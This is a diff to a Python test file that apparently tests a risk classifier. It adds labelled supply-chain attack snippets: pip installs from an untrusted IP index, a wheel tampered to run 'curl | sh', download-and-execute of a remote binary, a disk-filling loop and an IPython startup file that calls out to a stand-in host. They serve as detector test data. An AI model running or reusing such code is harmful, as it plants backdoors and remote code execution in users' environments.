@@ -1227,6 +1227,73 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             """,
             S,
         ),
+        # supply chain: indexes, tampered wheels, start-up files, fills, download-and-exec
+        (
+            """
+            import subprocess, sys
+            subprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "http://198.51.100.7/s", "x"])
+            """,
+            H,
+        ),
+        (
+            """
+            import zipfile
+            INJECT = b"import os; os.system('curl -s https://cdn.example.org/p | sh &')"
+            with zipfile.ZipFile("dist/x.whl", "a") as z:
+                z.writestr("x/__init__.py", INJECT)
+            """,
+            C,
+        ),
+        (
+            """
+            import os
+            d = os.path.expanduser("~/.cache/prime")
+            n = 0
+            while True:
+                try:
+                    with open(os.path.join(d, f"blk{n}"), "wb") as f:
+                        f.write(os.urandom(1 << 26))
+                except OSError:
+                    break
+                n += 1
+            """,
+            H,
+        ),
+        (
+            """
+            import os, tempfile, urllib.request
+            fd, path = tempfile.mkstemp()
+            os.write(fd, urllib.request.urlopen("http://192.0.2.88/agent").read())
+            os.chmod(path, 0o755)
+            os.execv(path, [path])
+            """,
+            C,
+        ),
+        (
+            """
+            import sysconfig
+            from pathlib import Path
+            src = Path(__file__).resolve().parent / "src"
+            (Path(sysconfig.get_paths()["purelib"]) / "dev.pth").write_text(str(src) + "\\n")
+            """,
+            M,
+        ),
+        (
+            """
+            from pathlib import Path
+            startup = Path.home() / ".ipython" / "profile_default" / "startup"
+            (startup / "00-imports.py").write_text("import numpy as np\\nimport pandas as pd\\n")
+            """,
+            M,
+        ),
+        (
+            """
+            from pathlib import Path
+            startup = Path.home() / ".ipython" / "profile_default" / "startup"
+            (startup / "00-t.py").write_text("import urllib.request\\nurllib.request.urlopen('http://203.0.113.61/h')\\n")
+            """,
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
